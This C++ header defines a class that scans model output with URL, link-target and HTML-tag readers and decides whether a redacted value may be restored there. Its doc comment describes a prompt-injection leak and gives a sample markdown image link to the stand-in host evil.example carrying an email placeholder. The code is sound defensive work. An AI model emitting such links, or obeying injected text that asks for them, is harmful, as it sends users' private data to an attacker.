#pragma once

#include <span>
#include <string>
#include <string_view>

#include "flow/8_restore/bare_url.h"
#include "flow/8_restore/html_tag.h"
#include "flow/8_restore/link_target.h"

namespace sluice::restore {

/// Reads a text and knows whether a caller's value may stand behind what was read: not where it
/// would become part of a URL, of a link's or image's target, or of an HTML tag, unless that is a
/// plain http(s) URL whose host is allowed. An injected passage could otherwise make the model send
/// values away: `![x](https://evil.example/?q=EMAIL_...)`.
///
/// Each of the three readers sees every byte, so that none can be blinded by what another takes
/// for its own. State is a few words and at most 256 bytes of the current word.
class Surroundings {
 public:
  /// @param hosts  see UrlCheck
  explicit Surroundings(std::span<const std::string> hosts,
                        LineBreaks breaks = LineBreaks::end_words)
      : bare_url_(hosts, breaks), link_target_(hosts), html_tag_(hosts) {}

  void feed(std::string_view text) {
    bare_url_.feed(text);
    link_target_.feed(text);
    html_tag_.feed(text);
  }

  [[nodiscard]] bool may_restore() {
    return !bare_url_.blocks() && !link_target_.blocks() && !html_tag_.blocks();
  }

  /// What follows is a text of its own: another string of a JSON document.
  void reset() {
    bare_url_.reset();
    link_target_.reset();
    html_tag_.reset();
  }

 private:
  BareUrl bare_url_;
  LinkTarget link_target_;
  HtmlTag html_tag_;
};

}  // namespace sluice::restore
